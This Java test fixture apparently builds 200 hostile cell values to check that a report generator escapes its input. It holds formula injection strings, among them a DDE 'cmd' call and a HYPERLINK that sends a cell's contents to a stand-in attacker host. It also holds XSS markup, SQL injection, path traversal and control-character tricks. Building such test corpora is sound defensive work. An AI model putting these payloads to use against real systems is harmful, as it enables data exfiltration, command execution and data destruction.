package dev.smsrunner.report;

import java.util.ArrayList;
import java.util.List;

/** Corpus of 200 hostile cells from an inventory or a service message, to attack the reader of a report. */
final class HostileValues {

    private static final List<String> FORMULA_STARTS =
            List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\u200b=", "\ufeff=");
    private static final List<String> FORMULAS =
            List.of("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "SUM(A1:A9)");
    private static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "' onmouseover='alert(1)",
            "\" autofocus onfocus=\"alert(1)",
            "javascript:alert(1)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe src=\"http://evil.example\"></iframe>",
            "</style><style>*{display:none}</style>",
            "</title><h1>x</h1>",
            "<!-- ",
            "-->",
            "]]>",
            "<![CDATA[x]]>",
            "&lt;b&gt;",
            "&#60;script&#62;",
            "&amp",
            "<base href=\"http://evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\">",
            "<template><script>alert(1)</script></template>",
            "<!--<script>",
            "{{constructor.constructor('alert(1)')()}}",
            "${7*7}",
            "`${alert(1)}`");
    private static final List<String> LETTERS = List.of(
            "\u202egpj.exe",
            "\u2066abc\u2069",
            "\u200fabc",
            "a\u2028alert(1)\u2029b",
            "\u001b[31mred\u001b[0m",
            "bell\u0007",
            "back\bspace",
            "form\ffeed",
            "\u0085next",
            "\ufffe",
            "_x0041_",
            "_x003D_1+1",
            "a\u0301\u0301\u0301\u0301",
            "𝒮ervers",
            "名前",
            "اسم",
            "''",
            "'",
            "\\",
            "\\u003cscript\\u003e",
            ";DROP TABLE migration;--",
            "%00",
            "../../etc/passwd",
            "%s%n",
            "\u0001\u0002\u0003");

    private HostileValues() {}

    /** The cells in a fixed order. */
    static List<String> cells() {
        var cells = new ArrayList<String>();
        FORMULA_STARTS.forEach(start -> FORMULAS.forEach(formula -> cells.add(start + formula)));
        cells.addAll(MARKUP);
        cells.addAll(LETTERS);
        MARKUP.forEach(cell -> cells.add("=" + cell));
        LETTERS.forEach(cell -> cells.add("x " + cell + " y"));
        MARKUP.forEach(cell -> cells.add(cell + " \u202e"));
        cells.add("y".repeat(40_000));
        while (cells.size() < 200) {
            cells.add("<b>" + cells.size() + "</b>");
        }
        return List.copyOf(cells);
    }
}
